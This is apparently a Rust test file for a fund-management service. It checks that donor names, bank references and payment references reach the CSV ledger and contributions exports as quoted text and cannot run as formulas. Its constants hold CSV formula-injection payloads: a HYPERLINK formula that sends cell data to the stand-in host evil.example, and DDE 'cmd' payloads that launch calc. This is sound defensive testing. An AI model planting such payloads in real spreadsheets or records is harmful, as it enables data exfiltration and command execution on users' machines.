//! CSV formula injection: a donor's name, a bank reference or a payment reference that a
//! spreadsheet would run as a formula reaches every CSV the service writes (the ledger
//! export over HTTP and from the command line, the contributions report) as text with a
//! leading `'`; the amounts the service writes (negative ones too) stay numbers.

use trustfund::api::contributions::{CreateContributionRequest, DonorRequest, ReceiptRequest};
use trustfund::api::grants::DisbursementRequest;
use trustfund::api::ledger_owners::ReversalRequest;
use trustfund::auth::Role;
use trustfund::contributions::DonorType;

use crate::helpers::{TestApp, TestUser};
use crate::on_both_backends;
use crate::support::bodies::{self, country, rate};
use crate::support::grants::awarded_grant;
use crate::support::paths::{self, with_query};
use crate::support::{positive_usd, short};

on_both_backends!(
    hostile_text_reaches_the_ledger_csv_as_text,
    hostile_donor_names_reach_the_contributions_report_as_text,
);

const DONOR: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
const BANK: &str = "=cmd|' /C calc'!A0";
const PAY_AT: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const PAY_PLUS: &str = "+cmd|' /C calc'!A0";
const PAY_MINUS: &str = "-2+3+cmd|' /C calc'!A0";

#[derive(clap::Parser)]
struct ExportCommand {
    #[command(flatten)]
    args: trustfund::exports::cli::ExportArgs,
}

fn today() -> String {
    bodies::today().to_string()
}

/// The report at `path` over today (as CSV if `csv`), as `finance` reads it:
/// the status and the bytes.
async fn read_report(app: &TestApp, finance: &TestUser, path: String, csv: bool) -> (u16, Vec<u8>) {
    let today = today();
    let mut query = vec![("from", today.as_str()), ("to", today.as_str())];
    if csv {
        query.push(("format", "csv"));
    }
    let (status, _, bytes) = app.as_(finance).get_bytes(with_query(path, &query)).await;
    (status, bytes)
}

/// A hostile donor with a hostile bank reference, and a grant paid three times with
/// hostile payment references, the last payment reversed (negative amounts).
async fn hostile_ledger(app: &TestApp) -> TestUser {
    let finance = app.user(Role::Finance).await;
    let as_finance = app.as_(&finance);
    let contribution = as_finance
        .contributions()
        .record(&CreateContributionRequest {
            donor: DonorRequest {
                name: Some(short(DONOR)),
                donor_type: DonorType::PrivateSector,
                country: Some(country("SE")),
            },
            pledged: Some(positive_usd("50000.00")),
            pledged_on: bodies::today(),
        })
        .await
        .created();
    as_finance
        .contribution(contribution.id)
        .receive(&ReceiptRequest {
            amount: positive_usd("50000.00"),
            received_on: bodies::today(),
            rate_to_usd: Some(rate("1")),
            rate_reason: None,
            bank_reference: short(BANK),
        })
        .await
        .created();
    let g = awarded_grant(app, "1.00").await;
    app.as_(&g.secretariat)
        .grant(g.grant)
        .sign_with_file(&bodies::agreement())
        .await
        .created();
    let mut last = None;
    for reference in [PAY_AT, PAY_PLUS, PAY_MINUS] {
        let payment = app
            .as_(&g.finance)
            .grant(g.grant)
            .pay(&DisbursementRequest {
                payment_reference: short(reference),
                ..bodies::disbursement(1, "1250.00")
            })
            .await
            .created();
        last = Some(payment);
    }
    let reversed = last.expect("three payments").ledger_transaction_id;
    app.as_(&g.finance)
        .ledger()
        .reverse(
            reversed,
            &ReversalRequest {
                reason: short("paid twice"),
            },
        )
        .await
        .created();
    finance
}

fn cells(csv: &[u8], column: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(csv);
    let at = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == column)
        .unwrap();
    reader
        .records()
        .map(|r| r.unwrap().get(at).unwrap().to_string())
        .collect()
}

fn assert_no_live_formula(csv: &[u8], columns: &[&str]) {
    for column in columns {
        for cell in cells(csv, column) {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{column}: {cell:?} would run as a formula"
            );
        }
    }
}

async fn hostile_text_reaches_the_ledger_csv_as_text(app: TestApp) {
    use clap::Parser;
    let finance = hostile_ledger(&app).await;
    let today = today();
    let (status, _, http) = app
        .as_(&finance)
        .get_bytes(with_query(
            paths::ledger_export(),
            &[
                ("format", "csv"),
                ("kind", "all"),
                ("from", today.as_str()),
                ("to", today.as_str()),
            ],
        ))
        .await;
    assert_eq!(status, 200);
    let references = cells(&http, "reference");
    for hostile in [BANK, PAY_AT, PAY_PLUS, PAY_MINUS] {
        let quoted = format!("'{hostile}");
        assert!(
            references.contains(&quoted),
            "{quoted:?} not in {references:?}"
        );
    }
    assert_no_live_formula(&http, &["reference", "record", "kind"]);
    // The amounts are the service's numbers: negative ones (payments out) unquoted, so a
    // spreadsheet still sums them.
    for column in ["amount", "usd_amount", "cash", "balance"] {
        let numbers: Vec<rust_decimal::Decimal> = cells(&http, column)
            .iter()
            .filter(|cell| !cell.is_empty())
            .map(|cell| {
                cell.parse()
                    .unwrap_or_else(|_| panic!("{column}: {cell:?}"))
            })
            .collect();
        assert!(!numbers.is_empty(), "{column}");
    }
    assert!(cells(&http, "cash").contains(&"-1412.50".to_string()));
    // The command line writes the same neutralised bytes.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("ledger.csv");
    let command = ExportCommand::try_parse_from([
        "export",
        "--format",
        "csv",
        "--kind",
        "all",
        "--from",
        &today,
        "--to",
        &today,
        "--output",
        path.to_str().unwrap(),
    ])
    .unwrap();
    let url = app.database_url.clone();
    tokio::task::spawn_blocking(move || {
        trustfund::exports::cli::run(
            command.args,
            &url,
            &crate::helpers::settings_for(&url).iati,
            &crate::helpers::test_signer(),
        )
        .unwrap()
    })
    .await
    .unwrap();
    // The same bytes but the signed checkpoint, which carries its own time.
    assert_eq!(
        crate::support::exports::without_checkpoint(
            &String::from_utf8(std::fs::read(&path).unwrap()).unwrap()
        ),
        crate::support::exports::without_checkpoint(std::str::from_utf8(&http).unwrap())
    );
}

async fn hostile_donor_names_reach_the_contributions_report_as_text(app: TestApp) {
    let finance = hostile_ledger(&app).await;
    let (status, csv) =
        read_report(&app, &finance, paths::fund_report("contributions"), true).await;
    assert_eq!(status, 200);
    let donors = cells(&csv, "donor");
    assert!(donors.contains(&format!("'{DONOR}")), "{donors:?}");
    assert_no_live_formula(&csv, &["donor", "level", "donor_type"]);
    // The JSON report keeps the name exactly as it was typed (read as text: the report's
    // view is only written by the crate, and the name is what is looked for).
    let (status, json) =
        read_report(&app, &finance, paths::fund_report("contributions"), false).await;
    assert_eq!(status, 200);
    let json = String::from_utf8(json).expect("UTF-8");
    assert!(json.contains("=HYPERLINK("), "{json}");
    assert!(!json.contains("'=HYPERLINK("), "{json}");
}
